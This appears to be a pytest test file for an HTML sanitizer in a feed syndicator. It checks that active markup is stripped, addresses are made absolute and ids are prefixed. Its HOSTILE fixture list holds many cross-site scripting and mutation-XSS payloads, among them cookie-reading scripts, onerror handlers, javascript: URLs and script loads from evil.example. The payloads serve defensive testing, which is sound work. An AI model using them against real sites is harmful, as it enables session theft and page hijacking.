"""HTML from anybody: nothing active, nothing relative, nothing that another entry's ids could meet."""

from __future__ import annotations

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from syndicator.markup.links import absolute
from syndicator.markup.sanitize import sanitize
from syndicator.text import legal

PERMALINK = "https://news.example.org/2023/08/24/post.html"
ADDRESSES = ("href", "src", "poster", "cite")
ACTIVE = {
    *(
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "applet",
        "form",
        "input",
        "button",
        "textarea",
        "select",
        "meta",
    ),
    *("link", "base", "svg", "math", "template", "noscript", "frame", "frameset", "marquee", "title", "xmp"),
}


def clean(html: str, prefix: str = "e1-") -> str:
    return sanitize(html, permalink=PERMALINK, prefix=prefix)


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """What a browser makes of it: the elements with their attributes."""
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    return [(str(node.tag), dict(node.attrib)) for node in tree.iter() if node is not tree]


def assert_harmless(html: str) -> None:
    assert html == legal(html)
    for tag, attributes in elements(html):
        assert tag not in ACTIVE
        for key, value in attributes.items():
            assert not key.startswith("on")
            assert key not in ("style", "target", "srcdoc", "formaction", "action", "background", "xlink:href", "ping")
            assert key != "id" or value.startswith("e1-")
            assert key != "class" or (tag == "code" and value.startswith("language-"))
            assert key not in ADDRESSES or value == absolute(value, "")


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<a href="/about/">x</a>', '<a href="https://h.example/sub/about/">x</a>'),
        ('<a href="/">x</a>', '<a href="https://h.example/sub/">x</a>'),
        ('<a href="/sub/about/">x</a>', '<a href="https://h.example/sub/about/">x</a>'),
        ('<a href="/sub">x</a> <a href="/sub?q">x</a>',
         '<a href="https://h.example/sub">x</a> <a href="https://h.example/sub?q">x</a>'),
        ('<a href="/subs/">x</a>', '<a href="https://h.example/sub/subs/">x</a>'),
        ('<a href="about/">x</a>', '<a href="https://h.example/sub/p/about/">x</a>'),
        ('<a href="//other.example/a">x</a>', '<a href="https://other.example/a">x</a>'),
        ('<a href="https://h.example/a">x</a>', '<a href="https://h.example/a">x</a>'),
        ('<img src="/a.png">', '<img src="https://h.example/sub/a.png">'),
        ('<img srcset="a.png 1x,/b.png 2x">',
         '<img srcset="https://h.example/sub/p/a.png 1x, https://h.example/sub/b.png 2x">'),
        ('<a href="/../x">x</a>', '<a href="https://h.example/x">x</a>'),
    ],
)  # fmt: skip
def test_a_leading_slash_may_mean_the_sites_root(html: str, expected: str) -> None:
    """frontmatter-76: so Hugo 0.168 writes its feed for a site that lies below a path."""
    assert expected == sanitize(html, permalink="https://h.example/sub/p/", prefix="e-", root="https://h.example/sub/")


ACTIVE_POST = (  # 2026-01-10-active-html.md
    '<iframe src="http://127.0.0.1/"></iframe><object data="x.swf"></object><embed src=x>'
    "<form action=http://evil.example><input name=p></form>"
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'
    '<math><mi xlink:href="javascript:1">x</mi></math><meta http-equiv=refresh content="0;url=//evil.example">'
    '<base href="//evil.example/"><img src=x onerror="alert(1)" style="position:fixed;background:url(javascript:1)">'
    "<video src=/v.mp4 onloadstart=x controls></video><details open ontoggle=alert(1)>d</details>"
)
HOSTILE = [
    ACTIVE_POST,
    # 2026-01-08-script-in-markdown.md
    "Hello <script>alert(document.cookie)</script> <ScRiPt src=//evil.example/x.js></sCrIpT>",
    '<script>\nlet a = "</p>";\n</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # Markup that changes its meaning when it is parsed a second time.
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a href='</title><img src=x onerror=alert(1)>'></title>",
    "<template><img src=x onerror=alert(1)></template><plaintext><img src=x onerror=alert(1)>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>" src=about:blank></iframe>',
    "<iframe src=\"data:text/html,<script>alert(1)</script>\" title='<img src=x onerror=alert(1)>'>",
    '<iframe src="https://a.example/" title="&lt;img src=x onerror=alert(1)&gt;"><img src=x onerror=alert(1)></iframe>',
    '<img src=data:x alt="<script>alert(1)</script>&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<img src="x" alt="&quot; onerror=alert(1) x=&quot;"><a title=\'" onclick="alert(1)\' href=x>a</a>',
    '<a href="java&#10;script:alert(1)">a</a><a href="&#1;javascript:alert(1)">b</a><a href=" vbscript:x">c</a>',
    '<img srcset="javascript:alert(1) 1x, data:image/svg+xml,x 2x"><video poster=javascript:alert(1)></video>',
    '<a name="x" id=y href="#x" onfocus=alert(1) autofocus tabindex=1>a</a><p id=location>b</p>',
    '<div style="background:url(//evil.example)" class=x><font color=red><center><blink>x</div>',
    "<img/src=x/onerror=alert(1)><img src='x'onerror=alert(1)><IMG SRC=x ONERROR=alert(1)//",
    '<body onload=alert(1)><html><head><link rel=stylesheet href=//evil.example><a href="https://u:p@evil.example">x',
    "<!--><img src=x onerror=alert(1)>--> <!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<code class='language-x onclick=alert(1) evil'>x</code><?xml-stylesheet href='javascript:x'?><% x %>",
]


@pytest.mark.parametrize("html", HOSTILE, ids=lambda html: html[:24])
def test_nothing_active_is_left_for_a_browser(html: str) -> None:
    """rss-37, atom-44, user-ask 28"""
    once = clean(html)

    assert_harmless(once)
    assert_harmless(clean(once))
    assert "evil.example/x.js" not in once
    assert "cookie" not in once


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=3), st.lists(st.integers(0, 400), min_size=3, max_size=3)
)
def test_pieces_of_hostile_html_are_harmless_together(parts: list[str], cuts: list[int]) -> None:
    assert_harmless(clean("".join(part[at:] + part[:at] for part, at in zip(parts, cuts, strict=False))))


TAME = st.from_regex(
    r"(?:</?(?:p|b|ul|li|table|tr|td|h2|pre|code|br|dl|dt|dd|a|i|figure|video|sup)>|<a href=\"#n\">|<p id=\"n\">"
    r"|<h2 id=\"n\">|<img src=\"a b.jpg\" alt=\"&lt;b&gt;\">|<img src=\"data:x\" alt=\"<&amp;\">|<video src=\"v.mp4\">"
    r"|text|&amp;|&nbsp;| |\n|<!-- -->|<script>x</script>|&#0;|\u00e9){0,14}",
    fullmatch=True,
)


@settings(max_examples=150, deadline=None)
@given(TAME | st.text(max_size=80) | st.text("<>/='\"abi&;# \n", max_size=80))
def test_what_is_clean_stays_clean(html: str) -> None:
    once = clean(html)

    assert_harmless(once)
    assert_harmless(clean(once))
    assert clean(clean(once)) == clean(once)


def test_newsroom_html_is_kept() -> None:
    html = (
        '<figure><picture><source type="image/webp" srcset="https://a.example/b.webp 2x">'
        '<img alt="c" src="https://a.example/b.png" width="3" height="2"></picture>'
        "<figcaption>d <cite>e</cite></figcaption></figure>"
        '<table><caption>f</caption><colgroup><col span="2"></colgroup><thead><tr><th scope="col">g</th></tr></thead>'
        '<tbody><tr><td colspan="2" align="right">h</td></tr></tbody></table>'
        '<details open=""><summary>i</summary>j</details><ruby>k<rp>(</rp><rt>l</rt><rp>)</rp></ruby>'
        '<p lang="ar" dir="rtl"><abbr title="m">n</abbr> <time datetime="2023-08-24">o</time> <del>p</del><ins>q</ins> '
        "<mark>r</mark> H<sub>2</sub>O x<sup>2</sup></p><dl><dt>s</dt><dd>t</dd></dl>"
        '<ol start="3" reversed=""><li value="9">u</li></ol><blockquote cite="https://a.example/v">w</blockquote>'
        '<pre><code class="language-c++">x</code></pre>'
    )

    assert html == clean(html)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p class=a style=b onclick=c target=d>x</p>", "<p>x</p>"),
        ("<o-custom><center>x</center></o-custom>", "x"),
        ("<pre>\n\n a\n</pre>", "<pre>\n\n a\n</pre>"),
        ("<p>a</p><p><script>x</script></p><p> </p>b", "<p>a</p>b"),
        (
            "<code class='hl language-py x'>a</code><p class=language-py>b</p>",
            '<code class="language-py">a</code><p>b</p>',
        ),
        ("<math><mi>x</mi><mo>=</mo><mn>1</mn><annotation>x=1</annotation></math>", "x=1"),
        ("<svg><text>x</text></svg>", ""),
        ("<object data=x.swf>fallback</object>", "fallback"),
        ("<video autoplay src=/v.mp4>", '<video src="https://news.example.org/v.mp4" controls=""></video>'),
        ("a &nbsp;&eacute;&lt;", "a \u00a0é&lt;"),
        ("<b>a<i>b</b>c</i>", "<b>a<i>b</i></b><i>c</i>"),
    ],
)
def test_what_feeds_do_not_carry_goes(html: str, expected: str) -> None:
    assert expected == clean(html)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<a href="/x?a=1&b=2">', '<a href="https://news.example.org/x?a=1&amp;b=2"></a>'),
        ('<a href="javascript:x">y</a>', "<a>y</a>"),
        ('<a href="mailto:a@b.example">y</a>', '<a href="mailto:a@b.example">y</a>'),
        ('<img src="mailto:a@b.example" alt="y">', "y"),
        ('<img src="file:///etc/passwd">', ""),
        ('<img src="x.png" data-src="/real.png">', '<img src="https://news.example.org/real.png">'),
        ('<img src="" data-lazy="/real.png">', '<img src="https://news.example.org/real.png">'),
        (
            '<img data-src="/a.png"><noscript><img src="/a.png"></noscript>',
            '<img src="https://news.example.org/a.png">',
        ),
        (
            '<img src="data:image/gif;base64,R0"><noscript> <img alt="<b>" src=/a.png> </noscript>',
            '<img alt="&lt;b&gt;" src="https://news.example.org/a.png">',
        ),
        ("<noscript><img src='/a.png' onerror='x()'></noscript>", '<img src="https://news.example.org/a.png">'),
        ("<noscript>Please <img src='/a.png'></noscript>", ""),
        (
            '<img data-original="/real.png" data-srcset="a.png 2x">',
            '<img src="https://news.example.org/real.png" srcset="https://news.example.org/2023/08/24/a.png 2x">',
        ),
        ('<img src="https://u:secret@a.example/x">', '<img src="https://a.example/x">'),
        ('<q cite="/x">y</q>', '<q cite="https://news.example.org/x">y</q>'),
    ],
)
def test_every_address_is_absolute_or_gone(html: str, expected: str) -> None:
    """rss-37, jsonfeed-38, user-ask 23"""
    assert expected == clean(html)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<iframe src=//v.example/1></iframe>", '<p><a href="https://v.example/1">Embedded content: v.example</a></p>'),
        (
            "<p><iframe src=//v.example/1>old browser</iframe></p>",
            '<p><a href="https://v.example/1">Embedded content: v.example</a></p>',
        ),
        (
            "<iframe title='A > \"B\"' data-src='https://v.example/?a&amp;b'></iframe>",
            '<p><a href="https://v.example/?a&amp;b">A &gt; "B"</a></p>',
        ),
        (
            "<iframe src='https://v.example/'/>\n<p>after</p>",
            '<p><a href="https://v.example/">Embedded content: v.example</a></p>\n<p>after</p>',
        ),
        ("<IFrame src=https://v.example/></IFrame>x", "x"),
        ("<iframe></iframe>x", "x"),
        ("&lt;iframe src=x&gt;", "&lt;iframe src=x&gt;"),
    ],
)
def test_a_frame_becomes_a_link(html: str, expected: str) -> None:
    """user-ask 28"""
    assert expected == clean(html)


def test_ids_are_the_entrys_own_and_links_follow_them() -> None:
    """user-ask 24"""
    html = '<a href="#fn:1" id="fnref:1">1</a> <p id="fn:1">x <a href="post.html#fnref:1">up</a></p>'

    expected = (
        f'<a href="{PERMALINK}#e1-fn:1" id="e1-fnref:1">1</a> '
        f'<p id="e1-fn:1">x <a href="{PERMALINK}#e1-fnref:1">up</a></p>'
    )
    assert expected == clean(html)
    assert expected == clean(expected)
    assert clean(html, prefix="e2-") == expected.replace("e1-", "e2-")


def test_ids_without_a_link_and_those_of_headings_go() -> None:
    html = '<h2 id="a">A</h2><p id="b">B</p><a href="#a">a</a> <a href="/other#b">b</a> <a href="#c">c</a>'

    expected = (
        f'<h2>A</h2><p>B</p><a href="{PERMALINK}#a">a</a> <a href="https://news.example.org/other#b">b</a> '
        f'<a href="{PERMALINK}#c">c</a>'
    )
    assert expected == clean(html)


def test_an_id_stands_once_and_names_of_any_script_match() -> None:
    html = '<a name="größe 1"></a><p id="größe 1">x</p><a href="#gr%C3%B6%C3%9Fe 1">y</a>'

    expected = f'<a id="e1-gr%C3%B6%C3%9Fe%201"></a><p>x</p><a href="{PERMALINK}#e1-gr%C3%B6%C3%9Fe%201">y</a>'
    assert expected == clean(html)
